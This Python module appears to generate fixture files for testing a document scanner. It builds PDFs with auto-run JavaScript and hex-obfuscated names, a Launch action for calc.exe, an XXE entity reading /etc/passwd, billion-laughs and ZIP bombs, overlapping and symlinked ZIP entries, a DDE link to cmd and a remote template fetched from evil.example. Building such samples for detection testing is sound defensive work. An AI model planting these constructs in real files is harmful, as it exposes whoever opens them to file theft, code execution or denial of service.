"""Sound and hostile files, made in code. Every function returns the bytes of one file."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from typing import Any

from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

OFFICE = "http://schemas.openxmlformats.org"
TYPES = f'{OFFICE}/package/2006/content-types"'
WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SHEET_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
RELATION = f"{OFFICE}/officeDocument/2006/relationships"


def pdf(*, edit: Any = None, pages: int = 1) -> bytes:
    """Return a PDF with blank pages; `edit(writer)` may spoil it."""
    writer = PdfWriter()
    for _page in range(pages):
        writer.add_blank_page(595, 842)
    if edit:
        edit(writer)
    stream = io.BytesIO()
    writer.write(stream)
    return stream.getvalue()


def scripted_pdf() -> bytes:
    """A script that runs on opening; its name stands in the open."""

    def script(writer: PdfWriter) -> None:
        action = DictionaryObject(
            {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("1")}
        )
        writer._root_object[NameObject("/OpenAction")] = action

    return pdf(edit=script)


def hidden_script_pdf() -> bytes:
    """The same, with names spelled in hex so that a search for them finds nothing."""
    plain = scripted_pdf()
    return plain.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/#4AS")


def launching_pdf() -> bytes:
    def launch(writer: PdfWriter) -> None:
        action = DictionaryObject(
            {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("calc.exe")}
        )
        writer._root_object[NameObject("/OpenAction")] = action

    return pdf(edit=launch)


def carrying_pdf() -> bytes:
    return pdf(edit=lambda writer: writer.add_attachment("payload.exe", b"MZ"))


def locked_pdf() -> bytes:
    return pdf(edit=lambda writer: writer.encrypt("secret", algorithm="RC4-128"))


def png(width: int = 2, height: int = 2) -> bytes:
    """Return a PNG whose header claims these sides."""

    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = zlib.compress(b"".join(b"\0" + b"\x40\x80\xc0" * 2 for _row in range(2)))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def jpeg(width: int = 16, height: int = 16) -> bytes:
    """Return the skeleton of a JPEG: header, frame, scan, end."""
    app0 = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\0\x01\x01\0\0\x01\0\x01\0\0"
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\0"
    scan = b"\xff\xda" + struct.pack(">HB", 8, 1) + b"\x01\0\0\x3f\0" + b"\x12\x34\xff\x00\x56"
    return b"\xff\xd8" + app0 + frame + scan + b"\xff\xd9"


def package(parts: dict[str, bytes | str], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Return a ZIP file of these parts, as they are named."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", method) as made:
        for name, body in parts.items():
            made.writestr(name, body)
    return stream.getvalue()


def office(main: str, main_type: str, extra: dict[str, bytes | str] | None = None, overrides: str = "") -> bytes:
    """Return an office package: `main` is its main part, `extra` adds or replaces parts."""
    types = (
        f'<Types xmlns="{TYPES}><Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{main}" ContentType="{main_type}"/>{overrides}</Types>'
    )
    relations = relationships((f"{RELATION}/officeDocument", main, ""))
    parts: dict[str, bytes | str] = {"[Content_Types].xml": types, "_rels/.rels": relations, main: "<document/>"}
    return package({**parts, **(extra or {})})


def relationships(*rows: tuple[str, str, str]) -> str:
    """Return a .rels part of (type, target, mode)."""
    made = "".join(
        f'<Relationship Id="r{n}" Type="{kind}" Target="{target}" TargetMode="{mode or "Internal"}"/>'
        for n, (kind, target, mode) in enumerate(rows)
    )
    return f'<Relationships xmlns="{OFFICE}/package/2006/relationships">{made}</Relationships>'


def docx(extra: dict[str, bytes | str] | None = None, **more: Any) -> bytes:
    return office("word/document.xml", WORD_MAIN, extra, **more)


def xlsx(extra: dict[str, bytes | str] | None = None, **more: Any) -> bytes:
    return office("xl/workbook.xml", SHEET_MAIN, extra, **more)


def macro_docx() -> bytes:
    """A document with a macro project that still calls itself .docx."""
    return docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})


def docm() -> bytes:
    return office("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml")


def xxe_docx() -> bytes:
    body = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><document>&x;</document>'
    return docx({"word/document.xml": body})


def laughs_xlsx() -> bytes:
    """Entities that grow by ten at each level."""
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 9))
    return xlsx({"xl/workbook.xml": f'<!DOCTYPE w [<!ENTITY l0 "ha">{levels}]><w>&l8;</w>'})


def template_docx() -> bytes:
    outside = relationships((f"{RELATION}/attachedTemplate", "https://evil.example/t.dotm", "External"))
    return docx({"word/_rels/settings.xml.rels": outside})


def linked_docx() -> bytes:
    """A sound document: a link to follow by hand is no danger."""
    return docx({"word/_rels/document.xml.rels": relationships((f"{RELATION}/hyperlink", "https://e.cn/", "External"))})


def dde_xlsx() -> bytes:
    return xlsx({"xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd"/></externalLink>'})


def bomb_docx(size: int = 60 * 1024 * 1024) -> bytes:
    return docx({"word/media/image1.bmp": b"\0" * size})


def many_parts_docx() -> bytes:
    return docx({f"word/media/{n}.png": b"" for n in range(5_001)})


def nested_docx(inner: bytes) -> bytes:
    return docx({"word/embeddings/Microsoft_Excel_Sheet1.xlsx": inner})


def overlapping_docx() -> bytes:
    """Two entries that point at the same bytes."""
    data = bytearray(docx({"word/a.xml": "<a/>" * 1, "word/b.xml": b"<b>" + b" " * 4000 + b"</b>"}))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as made:
        big, small = made.getinfo("word/b.xml"), made.getinfo("word/a.xml")
        directory = made.start_dir
    place = data.index(b"word/a.xml", directory) - 46
    struct.pack_into("<II", data, place + 20, big.compress_size + 10_000, big.file_size)
    struct.pack_into("<I", data, place + 42, big.header_offset)
    assert small.header_offset != big.header_offset
    return bytes(data)


def symlink_docx() -> bytes:
    stream = io.BytesIO(docx())
    with zipfile.ZipFile(stream, "a") as made:
        link = zipfile.ZipInfo("word/link.xml")
        link.external_attr = 0o120777 << 16
        made.writestr(link, "/etc/passwd")
    return stream.getvalue()
